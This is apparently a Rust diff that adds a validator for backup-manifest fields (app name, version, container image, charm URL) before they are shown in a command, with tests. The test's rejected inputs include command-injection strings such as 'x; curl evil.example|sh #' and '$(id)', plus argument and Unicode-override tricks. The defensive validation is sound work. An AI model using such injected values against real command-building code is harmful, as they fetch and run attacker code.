@@ -29,6 +29,25 @@ const FILE: &str = "app-record.json";
 /// Where Juju's agent writes down which charm it has unpacked (`charmURLPath` in internal/worker/uniter/charm/charm.go).
 const CHARM_URL: &str = ".juju-charm";
 
+/// Of what a manifest says, what is known here and has its form: a backup may come from anywhere, and a person is shown it as part of a
+/// command.
+pub fn trusted(said: &About) -> About {
+    let kept = [APP, VERSION, IMAGE, CHARM].into_iter().filter_map(|key| {
+        let value = said.get(key)?;
+        let others: &[u8] = match key {
+            IMAGE => b"._-/:@",
+            CHARM => b"._-/:",
+            _ => b"._-+~",
+        };
+        let is_fit = |byte: u8| byte.is_ascii_alphanumeric() || others.contains(&byte);
+        let longest = if key == IMAGE { 255 } else { 100 };
+        let begins = value.starts_with(|first: char| first.is_ascii_alphanumeric());
+        (begins && value.len() <= longest && value.bytes().all(is_fit))
+            .then(|| (key.to_owned(), value.clone()))
+    });
+    kept.collect()
+}
+
 /// What a dispatch knows of the app beyond what it knew before.
 pub fn known(profile: &AppProfile, facts: &Facts) -> About {
     let mut about = About::from([(APP.to_owned(), profile.name.clone())]);
@@ -87,6 +106,34 @@ fn path(charm_dir: &Path) -> PathBuf {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_is_part_of_a_command_has_the_form_of_what_it_should_be() {
+        let said = |key: &str, value: &str| About::from([(key.to_owned(), value.to_owned())]);
+        for (key, value) in [
+            (IMAGE, "lscr.io/linuxserver/radarr:6.1.1.10360-ls299"),
+            (
+                IMAGE,
+                "registry.jujucharms.com/charm/abc/radarr-image@sha256:0123",
+            ),
+            (VERSION, "6.1.1.10360-ls299"),
+            (CHARM, "ch:amd64/radarr-12"),
+            (APP, "radarr"),
+        ] {
+            assert_eq!(trusted(&said(key, value)), said(key, value));
+        }
+        for (key, value) in [
+            (IMAGE, "x; curl evil.example|sh #"),
+            (IMAGE, "--force"),
+            (IMAGE, "$(id)"),
+            (VERSION, "6.1\u{202e}1"),
+            (VERSION, ""),
+            ("other", "6.1.1"),
+        ] {
+            assert_eq!(trusted(&said(key, value)), About::new(), "{value}");
+        }
+        assert_eq!(trusted(&said(IMAGE, &"a".repeat(256))), About::new());
+    }
 
     #[test]
     fn what_one_dispatch_knows_is_kept_when_the_next_knows_less() {
